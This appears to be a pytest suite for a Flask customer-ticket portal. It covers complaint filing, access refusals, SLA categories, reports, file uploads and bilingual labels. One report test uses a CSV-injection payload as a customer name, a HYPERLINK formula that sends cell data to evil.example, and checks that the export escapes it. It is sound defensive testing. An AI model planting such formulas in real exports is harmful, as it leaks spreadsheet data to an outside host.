"""Tickets through the Flask client and the API (CMP-1…3, RGT-2, SEC-1)."""

import re

from tests.conftest import api_token, bearer, csrf_token, sign_in
from tests.factories import register, stand


def standing(customer, dept="ortho", grade="QUALIFIED"):
    stand(customer, dept, grade)


def test_customer_files_and_follows_a_complaint_to_its_close(app):
    customer, _ctx = register(email="t1@kangjian.cn")
    standing(customer)
    client = app.test_client()
    sign_in(client, "t1@kangjian.cn")
    token = csrf_token(client, "/customer/tickets")
    empty = client.post("/customer/tickets", data={"csrf_token": token, "dept_id": "ortho", "kind": "complaint",
                                                   "subject": "延迟", "description": ""}).get_data(as_text=True)
    assert re.search(r'id="description-error">', empty)
    huge = client.post("/customer/tickets", data={"csrf_token": token, "dept_id": "ortho", "kind": "complaint",
                                                  "subject": "延迟", "description": "字" * 50_000})
    assert re.search(r'id="description-error">', huge.get_data(as_text=True))
    filed = client.post("/customer/tickets", data={"csrf_token": token, "dept_id": "ortho", "kind": "complaint",
                                                   "subject": "交货延迟", "description": "订单延迟两周"})
    assert filed.status_code == 302
    path = filed.headers["Location"]
    staff = api_token(app.test_client(), "ortho.rep@demo.local")
    ticket_id = path.rsplit("/", 1)[1]
    resolved = app.test_client().post(f"/api/v1/tickets/{ticket_id}/steps", headers=bearer(staff),
                                      json={"status": "resolved", "reply": "已加急发货"})
    assert resolved.status_code == 200
    page = client.get(path).get_data(as_text=True)
    assert "已加急发货" in page
    token = csrf_token(client, path)
    bad = client.post(path, data={"csrf_token": token, "action": "close", "rating": "6"}).get_data(as_text=True)
    assert re.search(r'id="rating-error">', bad)
    done = client.post(path, data={"csrf_token": token, "action": "close", "rating": "4", "comment": "还行"})
    assert done.status_code == 302
    assert 'id="ticket-status">已关闭' in client.get(path).get_data(as_text=True)
    again = app.test_client().post(f"/api/v1/tickets/{ticket_id}/close",
                                   headers=bearer(api_token(app.test_client(), "t1@kangjian.cn")),
                                   json={"rating": 5})
    assert again.status_code == 409


def test_api_refusals(app):
    a, _ = register(email="ta@kangjian.cn")
    _b, _ = register(email="tb@kangjian.cn")
    standing(a)
    client = app.test_client()
    token_a = api_token(client, "ta@kangjian.cn")
    wrong_dept = client.post("/api/v1/tickets", headers=bearer(token_a), json={
        "dept_id": "rehab", "kind": "service", "subject": "x", "description": "y"})
    assert wrong_dept.status_code == 422 and "dept_id" in wrong_dept.get_json()["error"]["fields"]
    ticket = client.post("/api/v1/tickets", headers=bearer(token_a), json={
        "dept_id": "ortho", "kind": "service", "subject": "维修", "description": "故障"}).get_json()
    token_b = api_token(client, "tb@kangjian.cn")
    assert client.get(f"/api/v1/tickets/{ticket['id']}", headers=bearer(token_b)).status_code == 404
    assert client.post(f"/api/v1/tickets/{ticket['id']}/replies", headers=bearer(token_b),
                       json={"text": "别家客户的回复"}).status_code == 404  # SEC-1: another customer's ticket
    assert client.post(f"/api/v1/tickets/{ticket['id']}/close", headers=bearer(token_b),
                       json={"rating": 1}).status_code == 404
    rehab = api_token(client, "rehab.rep@demo.local")
    assert client.post(f"/api/v1/tickets/{ticket['id']}/replies", headers=bearer(rehab),
                       json={"text": "越权"}).status_code == 403
    own = client.get(f"/api/v1/tickets/{ticket['id']}", headers=bearer(token_a)).get_json()
    assert own["status"] == "submitted" and "别家客户的回复" not in str(own["timeline"]) and "越权" not in str(own)


def test_queue_page_puts_vip_first(app):
    q, q_ctx = register(email="q@kangjian.cn")
    v, v_ctx = register(email="v@kangjian.cn")
    standing(q)
    standing(v, grade="VIP")
    from portal.services import tickets

    tickets.file(q_ctx, "ortho", "service", "合格客户工单", "先")
    tickets.file(v_ctx, "ortho", "service", "VIP客户工单", "后")
    client = app.test_client()
    sign_in(client, "ortho.clerk@demo.local")
    page = client.get("/staff/departments/ortho/tickets").get_data(as_text=True)
    assert page.index("VIP客户工单") < page.index("合格客户工单")


def test_CMP_2_leader_sets_categories_and_times_and_the_customer_picks_one(app):
    leader = app.test_client()
    sign_in(leader, "ortho.leader@demo.local")
    token = csrf_token(leader, "/staff/sla/ortho")
    bad = leader.post("/staff/sla/ortho", data={"csrf_token": token, "categories": "质量\n质量",
                                                "responsible_role": "rep", "first_response_days": "3",
                                                "resolution_days": "2", "autoclose_days": "7"}).get_data(as_text=True)
    assert re.search(r'id="categories-error">', bad) and re.search(r'id="resolution_days-error">', bad)
    ok = leader.post("/staff/sla/ortho", data={"csrf_token": token, "categories": "产品质量\n交货延迟",
                                               "responsible_role": "rep", "first_response_days": "1",
                                               "resolution_days": "4", "vip_first_response_days": "0",
                                               "vip_resolution_days": "2", "autoclose_days": "7"})
    assert ok.status_code == 302
    assert leader.post("/staff/sla/company", data={"csrf_token": token}).status_code == 403
    customer, _ctx = register(email="cat@kangjian.cn")
    standing(customer)
    client = app.test_client()
    sign_in(client, "cat@kangjian.cn")
    page = client.get("/customer/tickets").get_data(as_text=True)
    assert 'value="ortho:交货延迟"' in page
    token = csrf_token(client, "/customer/tickets")
    filed = client.post("/customer/tickets", data={"csrf_token": token, "dept_id": "ortho", "kind": "complaint",
                                                   "category": "ortho:交货延迟", "subject": "延迟", "description": "x"})
    assert filed.status_code == 302
    from portal.adapters.tables import Ticket

    assert Ticket.get(filed.headers["Location"].rsplit("/", 1)[1]).category == "交货延迟"


def test_CMP_3_REL_5_reports_show_the_numbers(app):
    from portal.services import tickets
    from tests.conftest import staff_ctx as staff
    from tests.factories import fresh

    customer, ctx = register(email="rep1@kangjian.cn", name="重复投诉有限公司")
    standing(customer)
    first = tickets.file(ctx, "ortho", "complaint", "第一次", "质量问题")
    tickets.file(fresh(ctx), "ortho", "complaint", "第二次", "又有问题")
    tickets.advance(staff("ortho.rep@demo.local"), first.ticket_id, "resolved", "已更换")
    tickets.close(fresh(ctx), first.ticket_id, 4, None)
    leader = app.test_client()
    sign_in(leader, "ortho.leader@demo.local")
    page = leader.get("/staff/reports?scope=ortho&days=30").get_data(as_text=True)
    assert re.search(r"<dd>2</dd>", page) and "100.0%" in page and "4.0" in page
    assert "重复投诉有限公司: 2" in page
    exported = leader.get("/staff/reports?scope=ortho&days=30&format=csv").get_data(as_text=True)
    assert "repeat_complainer,重复投诉有限公司,2" in exported and "by_kind,complaint,2" in exported
    assert leader.get("/staff/reports?scope=company").status_code == 403
    rehab = app.test_client()
    sign_in(rehab, "rehab.leader@demo.local")
    assert rehab.get("/staff/reports?scope=ortho").status_code == 403
    md = app.test_client()
    sign_in(md, "md.admin@demo.local")
    assert re.search(r"<dd>2</dd>", md.get("/staff/reports").get_data(as_text=True))
    evil, evil_ctx = register(email="evil@kangjian.cn", name='=HYPERLINK("http://evil.example/?"&A1,"click")')
    standing(evil)
    tickets.file(evil_ctx, "ortho", "complaint", "一", "x")
    tickets.file(fresh(evil_ctx), "ortho", "complaint", "二", "y")
    exported = leader.get("/staff/reports?scope=ortho&days=30&format=csv").get_data(as_text=True)
    assert "repeat_complainer,\"'=HYPERLINK(" in exported and ",=HYPERLINK" not in exported  # SEC-2, DESIGN 14


def test_CMP_1_files_on_a_ticket_through_the_pages_and_the_api(app):
    from portal.adapters import aws, files
    from tests.factories import EXE, PDF

    customer, _ctx = register(email="tf@kangjian.cn")
    standing(customer)
    client = app.test_client()
    sign_in(client, "tf@kangjian.cn")
    token = csrf_token(client, "/customer/tickets")
    path = client.post("/customer/tickets", data={"csrf_token": token, "dept_id": "ortho", "kind": "service",
                                                  "subject": "外壳破裂", "description": "见照片"}).headers["Location"]
    ticket_id = path.rsplit("/", 1)[1]
    page = client.get(path).get_data(as_text=True)
    assert 'id="upload-form"' in page and "js/upload.js" in page
    token = csrf_token(client, path)
    headers = {"X-CSRFToken": token, "Accept": "application/json"}
    wrong = client.post(f"{path}/files", json={"filename": "a.exe", "content_type": "application/x-msdownload"},
                        headers=headers)
    assert wrong.status_code == 422 and "file" in wrong.get_json()["error"]["fields"]
    no_token = client.post(f"{path}/files", json={"filename": "a.pdf", "content_type": "application/pdf"})
    assert no_token.status_code == 400 and no_token.get_json()["error"]["code"] == "csrf"  # JSON for the script
    ended = app.test_client()  # a session that ended while the page stayed open
    sign_in(ended, "tf@kangjian.cn")
    stale_token = csrf_token(ended, path)
    ended.post("/logout", data={"csrf_token": stale_token})
    signed_out = ended.post(f"{path}/files", json={"filename": "a.pdf", "content_type": "application/pdf"},
                            headers={"X-CSRFToken": stale_token, "Accept": "application/json"})
    # the ended session takes its CSRF secret with it: the script is told, as JSON, to reload (and sign in)
    assert (signed_out.status_code, signed_out.get_json()["error"]["code"]) == (400, "csrf")
    assert "刷新页面" in signed_out.get_json()["error"]["message"]
    started = client.post(f"{path}/files", json={"filename": "送货单.pdf", "content_type": "application/pdf"},
                          headers=headers)
    assert started.status_code == 201
    body = started.get_json()
    assert body["fields"]["Content-Type"] == "application/pdf" and "policy" in body["fields"]
    aws.client("s3").put_object(Bucket=files._bucket["name"], Key=body["fields"]["key"], Body=PDF)
    checked = client.post(body["confirm_url"], headers=headers).get_json()
    assert checked["status"] == "verified"
    page = client.get(path).get_data(as_text=True)
    link = re.search(r'class="ticket-file" href="([^"]+)">送货单.pdf', page)
    assert link
    opened = client.get(link.group(1))
    assert opened.status_code == 302 and "X-Amz-Signature" in opened.headers["Location"]

    # the department sees and opens the file; another department is refused
    rep = app.test_client()
    sign_in(rep, "ortho.rep@demo.local")
    assert "送货单.pdf" in rep.get(f"/staff/tickets/{ticket_id}").get_data(as_text=True)
    assert rep.get(f"/staff/tickets/{ticket_id}/files/{body['file_id']}").status_code == 302
    other = app.test_client()
    sign_in(other, "rehab.rep@demo.local")
    assert other.get(f"/staff/tickets/{ticket_id}/files/{body['file_id']}").status_code == 403

    # the API: a fake PDF is refused with the reason, and the stored object is gone
    api = bearer(api_token(app.test_client(), "tf@kangjian.cn"))
    start = app.test_client().post(f"/api/v1/tickets/{ticket_id}/files", headers=api,
                                   json={"filename": "假.pdf", "content_type": "application/pdf"}).get_json()
    aws.client("s3").put_object(Bucket=files._bucket["name"], Key=start["fields"]["key"], Body=EXE)
    refused = app.test_client().post(f"/api/v1/tickets/{ticket_id}/files/{start['file_id']}/confirm", headers=api,
                                     json={})
    assert refused.status_code == 200
    assert refused.get_json()["status"] == "rejected" and "PDF" in refused.get_json()["message"]
    listing = aws.client("s3").list_objects_v2(Bucket=files._bucket["name"], Prefix=start["fields"]["key"])
    assert listing.get("KeyCount", 0) == 0
    timeline = app.test_client().get(f"/api/v1/tickets/{ticket_id}", headers=api).get_json()["timeline"]
    assert [e["file"]["name"] for e in timeline if e["kind"] == "attachment"] == ["送货单.pdf"]
    link = app.test_client().get(f"/api/v1/tickets/{ticket_id}/files/{body['file_id']}/download", headers=api)
    assert link.status_code == 200 and "X-Amz-Signature" in link.get_json()["url"]


def test_CMP_1_md_enters_a_hotline_complaint_as_a_company_ticket(app):
    from portal.adapters.tables import Ticket

    customer, _ctx = register(email="th@kangjian.cn")
    standing(customer)
    md = app.test_client()
    sign_in(md, "md.admin@demo.local")
    assert "/tickets/new" in md.get(f"/staff/customers/{customer.customer_id}").get_data(as_text=True)
    path = f"/staff/customers/{customer.customer_id}/tickets/new"
    assert "提交给营销事业部（公司级工单）" in md.get(path).get_data(as_text=True)
    saved = md.post(path, data={"csrf_token": csrf_token(md, path), "channel": "hotline", "kind": "complaint",
                                "subject": "热线：业务员承诺未兑现", "description": "客户来电反映"})
    assert saved.status_code == 302
    ticket = Ticket.get(saved.headers["Location"].rsplit("/", 1)[1])
    assert (ticket.dept_id, ticket.channel) == ("company", "hotline")
    leader = app.test_client()
    sign_in(leader, "leader@demo.local")
    assert leader.get(path).status_code == 403


def test_CMP_2_a_category_may_carry_its_english_name_and_each_language_shows_its_own(app):
    leader = app.test_client()
    sign_in(leader, "ortho.leader@demo.local")
    token = csrf_token(leader, "/staff/sla/ortho")
    ok = leader.post("/staff/sla/ortho", data={"csrf_token": token, "categories": "交货延迟 | Late delivery\n质量",
                                               "responsible_role": "rep", "first_response_days": "1",
                                               "resolution_days": "4", "autoclose_days": "7"})
    assert ok.status_code == 302
    customer, _ctx = register(email="cat2@kangjian.cn")
    standing(customer)
    client = app.test_client()
    sign_in(client, "cat2@kangjian.cn")
    zh = client.get("/customer/tickets").get_data(as_text=True)
    assert re.search(r'value="ortho:交货延迟 \| Late delivery">[^<]*· 交货延迟</option>', zh)
    assert "Late delivery</option>" not in zh
    client.get("/lang/en")
    en = client.get("/customer/tickets").get_data(as_text=True)
    assert re.search(r'value="ortho:交货延迟 \| Late delivery">[^<]*· Late delivery</option>', en)
    assert re.search(r'value="ortho:质量">[^<]*· 质量</option>', en)  # no English name given: the Chinese one
    token = csrf_token(client, "/customer/tickets")
    filed = client.post("/customer/tickets", data={"csrf_token": token, "dept_id": "ortho", "kind": "complaint",
                                                   "category": "ortho:交货延迟 | Late delivery", "subject": "延迟",
                                                   "description": "x"})
    assert filed.status_code == 302
    report = leader.get("/staff/reports?scope=ortho&days=30").get_data(as_text=True)
    assert '<span class="quota-label">交货延迟</span>' in report
